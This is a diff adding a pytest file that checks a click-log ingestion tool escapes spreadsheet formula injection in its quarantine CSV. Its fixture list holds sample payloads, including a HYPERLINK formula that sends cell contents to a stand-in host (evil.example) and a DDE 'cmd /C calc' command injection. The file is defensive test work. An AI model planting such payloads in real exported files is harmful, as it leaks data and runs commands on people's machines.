@@ -1,0 +1,46 @@
+"""A quarantine that a person opens in a spreadsheet."""
+
+import csv
+
+import polars as pl
+import pytest
+
+from ssi_core.corpus.clicks.build import ingest_clicks
+from ssi_core.corpus.clicks.quarantine import as_text
+from ssi_core.corpus.clicks.rules import Rules
+from tests.corpus.clicks import logs
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\uff1d1",
+    "'quoted",
+]
+HARMLESS = ["a=1", "", "it's", "1-2", "日本", '"=1"']
+
+
+def test_no_cell_begins_a_formula_and_all_come_back():
+    written = as_text(pl.DataFrame({"line": range(15), "row": FORMULAS + HARMLESS}))
+    assert written["line"].to_list() == list(range(15))
+    assert written["row"].to_list() == [*(f"'{text}" for text in FORMULAS), *HARMLESS]
+    back = written["row"].str.strip_prefix("'").to_list()
+    assert back == FORMULAS + HARMLESS
+
+
+@pytest.mark.parametrize("formula", [text for text in FORMULAS if "\n" not in text])
+def test_a_log_with_a_formula_gives_a_quarantine_without_one(formula, tmp_path):
+    rows = logs.rows(30)
+    rows[3] = {**rows[3], "visit": formula, "rank": formula}
+    log = logs.write_csv(tmp_path / "=log.csv", rows)
+    made = ingest_clicks([log], logs.form(), tmp_path / "out", rules=Rules("all"))
+    with (made.path / "quarantine.csv").open(encoding="utf-8", newline="") as file:
+        head, row = csv.reader(file)
+    assert head == ["file", "line", "category", "reason", "row"]
+    assert row[0] == "'=log.csv"
+    assert all(cell[0] not in "=+-@\t\r\uff1d" for cell in row)
+    assert row[4].removeprefix("'").encode() in log.read_bytes()
